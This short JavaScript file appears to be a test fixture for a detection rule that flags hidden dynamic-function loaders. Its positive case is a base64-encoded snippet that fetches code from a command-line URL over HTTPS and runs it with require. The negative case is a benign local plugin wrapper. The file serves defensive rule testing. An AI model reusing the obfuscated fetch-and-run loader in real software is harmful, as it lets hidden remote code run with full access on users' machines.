const u = process.argv[2];
// ruleid: js_hidden_function_given_require
const RT = Buffer.from('dmFyIGg9cmVxdWlyZSgiaHR0cHMiKTtoLmdldCh1LGZ1bmN0aW9uKHMpe3ZhciBkPSIiO3Mub24oImRhdGEiLGZ1bmN0aW9uKGMpe2QrPWN9KTtzLm9uKCJlbmQiLGZ1bmN0aW9uKCl7bmV3IEZ1bmN0aW9uKCJyZXF1aXJlIixkKShyZXF1aXJlKX0pfSk7', 'base64').toString();
// ok: js_hidden_function_given_require
const wrapper = new Function('require', 'return require("./plugin")');
module.exports = { RT, wrapper };
